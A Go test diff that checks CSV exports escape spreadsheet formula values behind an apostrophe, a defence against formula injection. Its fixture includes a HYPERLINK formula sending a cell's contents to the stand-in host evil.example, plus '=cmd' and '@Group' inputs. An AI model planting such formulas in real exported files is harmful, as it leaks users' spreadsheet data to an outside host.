@@ -501,3 +501,28 @@ func TestFirstClaimWrongHint(t *testing.T) {
 	}
 	f.balanced(t, g.ID)
 }
+
+// TestExportsEscapeFormulas: codes, customer ids and group names that a spreadsheet
+// would run as formulas are exported behind an apostrophe.
+func TestExportsEscapeFormulas(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+	g := f.group(t, "@Group")
+	f.load(t, g.ID, groups.FormatPlain, "=HYPERLINK(\"https://evil.example/?\"&A2)\n+CODE1\n-CODE2\nPLAIN\n")
+	f.claim(t, g.ID, "m", "=cmd")
+	var buf bytes.Buffer
+	if err := f.store.ExportIssues(ctx, g.ID, &buf); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil || len(recs) != 2 || recs[1][0] != "'=cmd" || recs[1][2] != `'=HYPERLINK("https://evil.example/?"&A2)` || recs[1][3] != "'@Group" {
+		t.Fatalf("issues.csv %q %v", recs, err)
+	}
+	buf.Reset()
+	if err := f.store.ExportUnused(ctx, g.ID, &buf); err != nil {
+		t.Fatal(err)
+	}
+	if got := buf.String(); got != "code,expires_at,expired\n'+CODE1,,false\n'-CODE2,,false\nPLAIN,,false\n" {
+		t.Fatalf("unused.csv %q", got)
+	}
+}
